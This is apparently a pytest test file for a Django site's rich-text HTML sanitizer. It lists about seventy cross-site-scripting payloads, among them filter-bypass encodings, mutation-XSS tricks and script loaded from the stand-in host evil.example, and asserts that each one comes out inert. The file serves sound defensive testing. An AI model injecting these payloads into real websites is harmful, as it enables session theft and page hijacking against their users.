from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.template import Context, Template

from dangjian.lib.richtext import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_REL,
    MAX_BYTES,
    plain,
    sanitize,
    to_text,
)

# Each payload is one way people have got script into a page through rich text. The test does
# not care what survives as text, only that nothing can run.
XSS_PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.png" onload="alert(1)">',
    "<IMG SRC=/media/a.png OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<p onclick="alert(1)" onmouseover="alert(2)">点我</p>',
    "<a href=/x onfocus=alert(1) autofocus>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    # javascript:, vbscript: and data: URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#0000058alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="DaTa:text/html,<script>alert(1)</script>">',
    '<a href="http://evil.example" title="x" rel="opener" target="_blank">x</a>',
    # style
    '<p style="width: expression(alert(1))">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="behavior: url(x.htc)">x</div>',
    "<link rel=stylesheet href=javascript:alert(1)>",
    # whole-page and navigation vectors
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="javascript:alert(1)//">',
    "<frameset onload=alert(1)>",
    # mutation XSS: namespace confusion and raw-text elements
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    # unclosed, nested and broken markup
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)'",
    "<p><b><i><u><a href=javascript:alert(1)>deep</u></i></b>",
    '<img """><script>alert(1)</script>">',
    "<div><div><div><div><script>alert(1)</script>",
    # comment-breaking payloads
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    # htmx and client-side template attributes would be live on our pages
    '<p hx-get="/admin/" hx-trigger="load">x</p>',
    '<span data-hx-post="/x" hx-on:click="alert(1)">x</span>',
    '<span v-html="x" x-data="{}" ng-app>{{constructor.constructor("alert(1)")()}}</span>',
]

TEMPLATE_TEXT = "{{ request }} {% debug %} {{ settings.SECRET_KEY }}"

_FORBIDDEN_URL = re.compile(r"^(javascript|vbscript|data|file|about|blob):")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))


def _elements(html):
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_inert(html):
    """Fail unless `html` holds only allowed elements with allowed, harmless attributes."""
    lowered = html.lower()
    assert "<script" not in lowered
    assert not re.search(r"<(iframe|svg|math|object|embed|style|form|base|meta|link)\b", lowered)
    for tag, attrs in _elements(html):
        assert tag in ALLOWED_TAGS, tag
        allowed = ALLOWED_ATTRIBUTES.get(tag, frozenset()) | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert name in allowed, (tag, name)
            assert not re.fullmatch(r"on\w+", name)
            assert name not in ("style", "class", "id")
            if name in ("href", "src"):
                url = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert not _FORBIDDEN_URL.match(url), (tag, name, value)
            if name == "rel":
                assert value == LINK_REL


def test_there_are_enough_payloads():
    assert len(XSS_PAYLOADS) >= 40
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_inert(payload):
    cleaned = sanitize(payload)
    assert_inert(cleaned)
    # Stored values get sanitized again on each edit: a second pass changes nothing.
    assert sanitize(cleaned) == cleaned


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_inert_inside_an_article(payload):
    cleaned = sanitize(f"<h2>标题</h2><p>前文{payload}后文</p><ul><li>{payload}</li></ul>")
    assert_inert(cleaned)
    assert "标题" in cleaned


def test_the_checker_catches_what_it_should():
    # The helper itself must fail on live markup, or the tests above prove nothing.
    for live in [
        "<script>x</script>",
        "<img src=x onerror=alert(1)>",
        '<a href=" JavaScript:alert(1)">x</a>',
        '<p style="color:red">x</p>',
        "<iframe></iframe>",
        '<img src="data:image/png;base64,AA">',
    ]:
        with pytest.raises(AssertionError):
            assert_inert(live)


def test_template_syntax_survives_as_text_only():
    cleaned = sanitize(f"<p>{TEMPLATE_TEXT}</p>")
    assert cleaned == f"<p>{TEMPLATE_TEXT}</p>"
    rendered = Template("{{ body|safe }}").render(Context({"body": cleaned, "request": "LIVE"}))
    assert rendered == cleaned
    assert "LIVE" not in rendered


ARTICLE = (
    "<h2>学习贯彻党的二十大精神</h2>"
    "<p>10月16日，<strong>中国共产党第二十次全国代表大会</strong>在北京<em>隆重开幕</em>。"
    '详见<a href="https://www.12371.cn/2022/10/16/" title="共产党员网">共产党员网</a>'
    '与<a href="/news/42/">本站报道</a>，'
    '联系<a href="mailto:dw@example.edu.cn">党委办公室</a>。</p>'
    "<h3>主要内容</h3>"
    "<ol><li>全面建设社会主义现代化国家</li><li>坚持和加强党的全面领导</li></ol>"
    "<ul><li><b>三会一课</b></li><li><i>主题党日</i></li><li><u>谈心谈话</u></li></ul>"
    "<blockquote><p>为中国人民谋幸福，为中华民族谋复兴。</p></blockquote>"
    '<figure><img src="/media/news/2022/hui.jpg" alt="大会现场" width="640" height="360">'
    "<figcaption>大会现场</figcaption></figure>"
    "<table><thead><tr><th>支部</th><th>人数</th></tr></thead>"
    '<tbody><tr><td colspan="2">第一党支部</td></tr><tr><td rowspan="1">学生</td><td>32</td></tr>'
    "</tbody></table>"
    "<hr><h4>附注</h4>"
    "<p>H<sub>2</sub>O 与 x<sup>2</sup>，<s>已撤回</s>，<span>普通</span><br>换行</p>"
)


def test_ordinary_article_survives():
    cleaned = sanitize(ARTICLE)
    assert_inert(cleaned)
    # Only rel is added to links; everything else, Chinese included, is kept as written.
    expected = re.sub(r'(<a href="[^"]*"(?: title="[^"]*")?)>', rf'\1 rel="{LINK_REL}">', ARTICLE)
    assert cleaned == expected
    assert to_text(cleaned) == to_text(ARTICLE)


def test_links_get_rel_and_lose_target():
    cleaned = sanitize('<a href="https://x.example" rel="opener" target="_blank">x</a>')
    assert cleaned == f'<a href="https://x.example" rel="{LINK_REL}">x</a>'


@pytest.mark.parametrize(
    "src",
    [
        "http://img.example.cn/a.png",  # another host: it would learn who reads
        "https://img.example.cn/a.png",
        "//img.example.cn/a.png",
        "/static/a.png",
        "a.png",
        "/media/../settings.py",
        "/media/\\..\\x.png",
        "/media/%2e%2e/content/7/",  # decoded by the browser: a page, not a picture
        "/media/%252e%252e/x.png",
        "/media//evil.example/x.png",
        "/media/a.png?x=1",
        "ftp://img.example.cn/a.png",
        "mailto:a@b.cn",
    ],
)
def test_images_come_only_from_media(src):
    assert sanitize(f'<img src="{src}" alt="图">') == '<img alt="图">'


def test_image_media_prefix_follows_the_setting(settings):
    settings.MEDIA_URL = "/uploads/"
    assert sanitize('<img src="/uploads/a.png">') == '<img src="/uploads/a.png">'
    assert sanitize('<img src="/media/a.png">') == "<img>"


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (
            '<table><tr><td colspan="2">x</td><td rowspan="2;x" title="t">y</td></tr></table>',
            '<table><tbody><tr><td colspan="2">x</td><td>y</td></tr></tbody></table>',
        ),
        ('<img src="/media/a.png" width="50%" height="x">', '<img src="/media/a.png" width="50%">'),
        ('<span class="c" id="i" style="color:red" lang="en" title="t">x</span>', "<span>x</span>"),
        ('<p align="center" dir="rtl">x</p>', "<p>x</p>"),
        ("<h1>一级</h1><h5>五级</h5><div>块</div>", "一级五级块"),
        ("<p>a<!-- 注释 -->b</p>", "<p>ab</p>"),
    ],
)
def test_attributes_and_tags_outside_the_list_go(html, expected):
    assert sanitize(html) == expected


def test_size_is_bounded():
    body = "<p>" + "党" * 1000 + "</p>"  # 3 bytes a character
    assert sanitize(body, max_bytes=3007)
    with pytest.raises(ValueError, match="3007"):
        sanitize(body, max_bytes=3006)
    with pytest.raises(ValueError):
        sanitize("a" * (MAX_BYTES + 1))
    assert sanitize("a" * MAX_BYTES) == "a" * MAX_BYTES


def test_rendering_is_inert():
    body = sanitize("".join(XSS_PAYLOADS))
    title = '<script>alert("t")</script><img src=x onerror=alert(1)>{{ request }}'
    template = Template("<h2>{{ title }}</h2>{{ body|safe }}")
    rendered = template.render(Context({"title": plain(title), "body": body, "request": "LIVE"}))
    assert_inert(rendered)
    assert "&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt;" in rendered
    assert "{{ request }}" in rendered
    assert "LIVE" not in rendered


# to_text


def test_to_text_decodes_and_collapses():
    html = "<h2>标题</h2><p>甲&amp;乙&nbsp;&lt;丙&gt;</p><ul><li>一</li><li>二</li></ul>"
    assert to_text(html) == "标题 甲&乙 <丙> 一 二"


def test_to_text_keeps_words_of_adjacent_blocks_apart():
    assert to_text("<p>one</p><p>two<br>three</p><table><tr><td>a</td><td>b</td></tr></table>") == (
        "one two three a b"
    )
    assert to_text("<p>in<strong>line</strong></p>") == "inline"


def test_to_text_skips_code_if_given_raw_html():
    assert to_text("<p>a</p><script>alert(1)</script><style>p{}</style><p>b</p>") == "a b"


@pytest.mark.parametrize(
    ("limit", "expected"),
    [
        (None, "学习贯彻 党的二十大精神"),
        (100, "学习贯彻 党的二十大精神"),
        (12, "学习贯彻 党的二十大精神"),
        (11, "学习贯彻 党的二十大…"),
        (5, "学习贯彻…"),  # the space before the cut goes
        (1, "…"),
        (0, ""),
    ],
)
def test_to_text_truncates_with_an_ellipsis(limit, expected):
    text = to_text("<p>学习贯彻</p><p>党的二十大精神</p>", limit=limit)
    assert text == expected
    assert limit is None or len(text) <= limit


def test_to_text_of_empty_input():
    assert to_text("") == ""
    assert to_text("<p> </p><br>") == ""


# plain


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("  关于召开\t支部大会的\n通知  ", "关于召开 支部大会的 通知"),
        ("全角\u3000空格", "全角 空格"),
        ("a\x00b\x07c\x1bd\x7fe\x9bf", "abcdef"),
        ("右\u202e到左\u2066隔离\u2069", "右到左隔离"),
        ("零\u200b宽\ufeff", "零宽"),
        ("e\u0301", "\u00e9"),  # NFC
        ("👨\u200d👩\u200d👧", "👨\u200d👩\u200d👧"),  # joiners in emoji stay
        ("<b>不是HTML</b> {{ x }}", "<b>不是HTML</b> {{ x }}"),  # escaping is the template's job
        ("", ""),
    ],
)
def test_plain(text, expected):
    assert plain(text) == expected


def test_plain_multiline_keeps_paragraphs():
    text = "  第一行  多余空格 \r\n第二行\r\r\n\n\n\n第三段\x00 \n\n"
    assert plain(text, multiline=True) == "第一行 多余空格\n第二行\n\n第三段"
